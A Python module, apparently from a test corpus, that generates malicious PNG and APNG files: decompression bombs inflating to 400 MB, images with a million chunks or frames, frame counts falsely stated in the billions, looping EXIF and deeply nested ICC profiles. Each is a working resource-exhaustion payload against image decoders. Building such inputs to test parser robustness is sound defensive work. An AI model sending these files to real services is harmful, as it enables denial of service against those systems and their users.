"""PNGs and APNGs. Source: W3C PNG Specification (Third Edition), https://www.w3.org/TR/png-3/"""

import struct
import zlib
from collections.abc import Callable
from functools import partial

from PIL import Image

from bombs.icc import endless_elements
from bombs.parts import HALF_SIDE, SIDE, encoded, looping_exif, noise, overlapping_exif, png_chunk

SIGNATURE = b"\x89PNG\r\n\x1a\n"
GRAY, RGB, PALETTE, GRAY_ALPHA, RGBA = 0, 2, 3, 4, 6
_SAMPLES = {GRAY: 1, RGB: 3, PALETTE: 1, GRAY_ALPHA: 2, RGBA: 4}
_KINDS = {GRAY: "gray", RGB: "RGB", PALETTE: "palette", GRAY_ALPHA: "gray and alpha", RGBA: "RGBA"}
# Where each pass of an interlaced PNG begins, and its steps: left, top, across, down.
_ADAM7 = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))
_FILE_MB = 49_000_000


def pixels(width: int, height: int, depth: int, kind: int, *, interlaced: bool = False) -> bytes:
    """Black pixels, compressed row by row."""
    passes = _ADAM7 if interlaced else ((0, 0, 1, 1),)
    packer = zlib.compressobj(9)
    data = []
    for left, top, across, down in passes:
        columns, rows = -(-(width - left) // across), -(-(height - top) // down)
        row = bytes(1 + -(-columns * depth * _SAMPLES[kind] // 8))
        data += [packer.compress(row) for _ in range(rows)] if columns > 0 else []
    return b"".join(data) + packer.flush()


def header(width: int, height: int, depth: int, kind: int, *, interlaced: bool = False) -> bytes:
    return SIGNATURE + png_chunk(
        b"IHDR", struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, interlaced)
    )


def still(
    side: int = SIDE,
    depth: int = 8,
    kind: int = RGB,
    *,
    interlaced: bool = False,
    before: bytes = b"",
    after: bytes = b"",
) -> bytes:
    """A black PNG with other chunks before and after its pixels."""
    colors = png_chunk(b"PLTE", bytes(3 * 2**depth)) if kind == PALETTE else b""
    packed = pixels(side, side, depth, kind, interlaced=interlaced)
    parts = (
        header(side, side, depth, kind, interlaced=interlaced),
        before,
        colors,
        png_chunk(b"IDAT", packed),
        after,
        png_chunk(b"IEND"),
    )
    return b"".join(parts)


def zipped(name: bytes, prefix: bytes = b"a\0\0") -> bytes:
    """A chunk of 389 kB that holds 400 MB."""
    return png_chunk(name, prefix + zlib.compress(bytes(400_000_000), 9))


def many_profiles() -> bytes:
    """Each of 49 MB of profiles inflates to 8 MB."""
    one = png_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(7_999_999), 9))
    return still(64, before=one * (_FILE_MB // len(one)))


def control(
    number: int, width: int, height: int, left: int = 0, top: int = 0, dispose: int = 0, blend: int = 0
) -> bytes:
    return png_chunk(
        b"fcTL", struct.pack(">IIIIIHHBB", number, width, height, left, top, 1, 10, dispose, blend)
    )


def moving(
    side: int,
    frames: int,
    *,
    stated: int | None = None,
    depth: int = 8,
    kind: int = RGBA,
    dispose: int = 0,
    blend: int = 0,
    before: bytes = b"",
    height: int | None = None,
) -> bytes:
    """Frames as large as the canvas, all with the same pixels; `stated` is how many the header counts."""
    height = height or side
    packed = pixels(side, height, depth, kind)
    parts = [
        header(side, height, depth, kind),
        png_chunk(b"acTL", struct.pack(">II", frames if stated is None else stated, 0)),
        before,
    ]
    for number in range(frames):
        parts.append(control(2 * number, side, height, dispose=dispose, blend=blend))
        if number:
            parts.append(png_chunk(b"fdAT", struct.pack(">I", 2 * number) + packed))
        else:
            parts.append(png_chunk(b"IDAT", packed))
    return b"".join(parts) + png_chunk(b"IEND")


def controls_alone(frames: int) -> bytes:
    """Frames without pixels behind a first one that has some."""
    first = moving(16, 1, stated=frames).removesuffix(png_chunk(b"IEND"))
    return first + control(1, 16, 16) * (frames - 1) + png_chunk(b"IEND")


def large_frame() -> bytes:
    small = moving(16, 2)
    return small.replace(control(2, 16, 16), control(2, 65_535, 65_535))


def scattered(chunks: int) -> bytes:
    """The pixels in chunks of a byte, most of them empty."""
    packed = pixels(64, 64, 8, RGB)
    bytewise = b"".join(png_chunk(b"IDAT", packed[at : at + 1]) for at in range(len(packed)))
    return header(64, 64, 8, RGB) + bytewise + png_chunk(b"IDAT") * chunks + png_chunk(b"IEND")


def overfull() -> bytes:
    """A pixel, and 400 MB behind it in the same stream."""
    data = zlib.compress(bytes(400_000_000), 9)
    return header(1, 1, 8, RGB) + png_chunk(b"IDAT", data) + png_chunk(b"IEND")


_MODES = [
    *((depth, GRAY) for depth in (1, 2, 4, 8, 16)),
    *((depth, PALETTE) for depth in (1, 4, 8)),
    *((depth, kind) for kind in (GRAY_ALPHA, RGB, RGBA) for depth in (8, 16)),
]
_CLEAR = {GRAY: bytes(2), RGB: bytes(6)}
_PROFILE = png_chunk(b"iCCP", b"a\0\0" + zlib.compress(endless_elements(100_000)))

BOMBS: dict[str, Callable[[], bytes]] = {
    **{
        f"PNG, 99 MP, {_KINDS[kind]} in {depth} bits{', interlaced' * interlaced}": partial(
            still, SIDE, depth, kind, interlaced=interlaced
        )
        for depth, kind in _MODES
        for interlaced in (False, True)
        if not interlaced or (depth, kind) in ((8, GRAY), (16, RGB), (16, RGBA))
    },
    **{
        f"PNG, 99 MP, {_KINDS[kind]} in {depth} bits, a transparent color": partial(
            still, SIDE, depth, kind, before=png_chunk(b"tRNS", _CLEAR[kind])
        )
        for depth, kind in ((8, GRAY), (16, GRAY), (8, RGB), (16, RGB))
    },
    "PNG, 1,921 × 16,383 with alpha": lambda: encoded(Image.new("RGBA", (1_921, 16_383)), "PNG"),
    "PNG, 1,921 × 16,383 of 3 colors": lambda: encoded(
        noise(2_000, "L").resize((1_921, 16_383)).quantize(3), "PNG"
    ),
    "PNG, 49 MB of noise": lambda: encoded(noise(4_000), "PNG", compress_level=1),
    "PNG, an ICC profile of 400 MB": lambda: still(64, before=zipped(b"iCCP")),
    "PNG, 5,000 ICC profiles of 8 MB": many_profiles,
    "PNG, an ICC profile of 100,000 steps": lambda: still(64, before=_PROFILE),
    "PNG, a text of 400 MB": lambda: still(64, before=zipped(b"zTXt")),
    "PNG, an international text of 400 MB": lambda: still(64, before=zipped(b"iTXt", b"a\0\1\0\0\0")),
    "PNG, 1 pixel and 400 MB behind it": overfull,
    "PNG, 1,000,000 chunks": lambda: still(64, before=png_chunk(b"tEXt") * 1_000_000),
    "PNG, 190,000 chunks": lambda: still(64, before=png_chunk(b"tEXt") * 190_000),
    "PNG, pixels in 190,000 chunks": lambda: scattered(190_000),
    "PNG, 49 MB of texts": lambda: still(64, before=png_chunk(b"tEXt", b"a\0" + b"x" * 65_000) * 750),
    "PNG, EXIF that loops": lambda: still(64, before=png_chunk(b"eXIf", looping_exif())),
    "PNG, EXIF of 60,000 overlapping values": lambda: still(
        64, before=png_chunk(b"eXIf", overlapping_exif(10_000_000))
    ),
    "APNG, 2 frames of 9,999 × 9,999": lambda: moving(9_999, 2),
    "APNG, 2 frames of 40 MP": lambda: moving(HALF_SIDE, 2),
    "APNG, 3 frames of 40 MP, blended": lambda: moving(HALF_SIDE, 3, blend=1),
    "APNG, 3 frames of 40 MP, each undone": lambda: moving(HALF_SIDE, 3, dispose=2),
    "APNG, 5 frames of 40 MP, RGBA in 16 bits, undone": lambda: moving(
        HALF_SIDE, 5, depth=16, dispose=2, blend=1
    ),
    "APNG, 190 frames of 1 MP": lambda: moving(1_020, 190),
    "APNG, 3,000 frames": lambda: moving(250, 3_000),
    "APNG, 3,000 frames of 16,383 × 4": lambda: moving(16_383, 3_000, height=4),
    "APNG, 3,000 frames, and an ICC profile of 8 MB": lambda: moving(
        250, 3_000, before=png_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(7_999_999), 9))
    ),
    "APNG, 1,000,000 frames": lambda: controls_alone(1_000_000),
    "APNG, 2 frames stated, 3,000 there": lambda: moving(250, 3_000, stated=2),
    "APNG, 4,294,967,295 frames stated, 2 there": lambda: moving(64, 2, stated=0xFFFFFFFF),
    "APNG, a frame of 4,295 MP on a canvas of 16 × 16": large_frame,
}
